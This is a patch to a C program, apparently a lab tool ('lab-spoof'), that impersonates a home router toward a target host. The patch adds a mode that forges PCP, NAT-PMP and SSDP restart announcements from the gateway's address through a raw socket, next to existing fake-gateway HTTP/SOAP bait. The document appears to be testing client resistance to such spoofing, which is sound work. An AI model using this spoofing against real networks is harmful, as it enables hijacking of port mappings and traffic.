@@ -21,7 +21,10 @@
  *
  * and every 250 ms it announces, from its own address, a router restart:
  * PCP and NAT-PMP (epoch 0) on 224.0.0.1:5350, SSDP NOTIFY with a new
- * BOOTID and a LOCATION on this host. Replies with the gateway's source
+ * BOOTID and a LOCATION on this host. With --as-gateway yes the
+ * announcements come from the gateway's address and port (5351; 1900),
+ * every --announce-ms ms (default 250): only a prompt, to a client that
+ * takes nothing from them. Replies with the gateway's source
  * address are sent through a raw socket. An HTTP server on this host
  * serves a gateway description and SOAP answers to whoever comes; a
  * client that took any of the bait would come.
@@ -68,6 +71,8 @@ static unsigned long counts[K_COUNT];
 static const char *stats_path;
 static struct in_addr self, victim, gateway;
 static int http_port = 5000;
+static int as_gateway;          /* announcements from the gateway's address */
+static long announce_ms = ANNOUNCE_EVERY_MS;
 static int raw_fd = -1, srv_fd = -1, ssdp_fd = -1;
 static volatile sig_atomic_t stop;
 
@@ -321,9 +326,14 @@ static void announce(int pcp_fd)
 	inet_pton(AF_INET, "224.0.0.1", &all_hosts);
 	inet_pton(AF_INET, "239.255.255.250", &ssdp_group);
 	inet_pton(AF_INET, FAKE_ADDR, &fake);
-	send_own(pcp_fd, all_hosts, 5350, pcp, sizeof(pcp));
 	memcpy(pmp + 8, &fake, 4);
-	send_own(pcp_fd, all_hosts, 5350, pmp, sizeof(pmp));
+	if (as_gateway) {
+		send_forged(gateway, 5351, all_hosts, 5350, pcp, sizeof(pcp));
+		send_forged(gateway, 5351, all_hosts, 5350, pmp, sizeof(pmp));
+	} else {
+		send_own(pcp_fd, all_hosts, 5350, pcp, sizeof(pcp));
+		send_own(pcp_fd, all_hosts, 5350, pmp, sizeof(pmp));
+	}
 	inet_ntop(AF_INET, &self, me, sizeof(me));
 	getrandom(&bootid, sizeof(bootid), 0);
 	n = snprintf(msg, sizeof(msg),
@@ -337,7 +347,10 @@ static void announce(int pcp_fd)
 		     "BOOTID.UPNP.ORG: %u\r\n"
 		     "\r\n",
 		     me, http_port, 2, bootid & 0x7fffffff);
-	send_own(ssdp_fd, ssdp_group, 1900, msg, (size_t)n);
+	if (as_gateway)
+		send_forged(gateway, 1900, ssdp_group, 1900, msg, (size_t)n);
+	else
+		send_own(ssdp_fd, ssdp_group, 1900, msg, (size_t)n);
 	counts[K_ANNOUNCE] += 2;
 	count(K_ANNOUNCE);
 }
@@ -460,7 +473,8 @@ static void on_signal(int sig)
 static void usage(void)
 {
 	fprintf(stderr, "usage: lab-spoof --victim ADDR --gateway ADDR --stats FILE [--iface IF]\n"
-			"                 [--http-port P] [--timeout S]\n");
+			"                 [--http-port P] [--timeout S] [--as-gateway yes]\n"
+			"                 [--announce-ms MS]\n");
 	exit(2);
 }
 
@@ -490,12 +504,16 @@ int main(int argc, char **argv)
 			http_port = atoi(v);
 		else if (!strcmp(a, "--timeout"))
 			timeout = atol(v);
+		else if (!strcmp(a, "--as-gateway"))
+			as_gateway = !strcmp(v, "yes");
+		else if (!strcmp(a, "--announce-ms"))
+			announce_ms = atol(v);
 		else
 			usage();
 		i++;
 	}
 	if (!have_victim || !have_gw || !stats_path || http_port <= 0 || http_port > 65535 ||
-	    timeout <= 0 || timeout > 600 || strlen(ifname) >= IFNAMSIZ)
+	    timeout <= 0 || timeout > 600 || strlen(ifname) >= IFNAMSIZ || announce_ms < 10)
 		usage();
 	signal(SIGTERM, on_signal);
 	signal(SIGINT, on_signal);
@@ -517,6 +535,11 @@ int main(int argc, char **argv)
 	raw_fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
 	if (raw_fd < 0)
 		die("raw socket");
+	{
+		/* forged multicast leaves by the LAN interface */
+		struct ip_mreqn mr = { .imr_ifindex = ll.sll_ifindex };
+		setsockopt(raw_fd, IPPROTO_IP, IP_MULTICAST_IF, &mr, sizeof(mr));
+	}
 	pcp_fd = udp_socket(5351);
 	ssdp_fd = udp_socket(1900);
 	srv_fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
@@ -537,7 +560,7 @@ int main(int argc, char **argv)
 
 		if (t >= next_announce) {
 			announce(pcp_fd);
-			next_announce = t + ANNOUNCE_EVERY_MS;
+			next_announce = t + announce_ms;
 		}
 		wait = (int)(next_announce - t);
 		if (poll(p, 2, wait) < 0 && errno != EINTR)
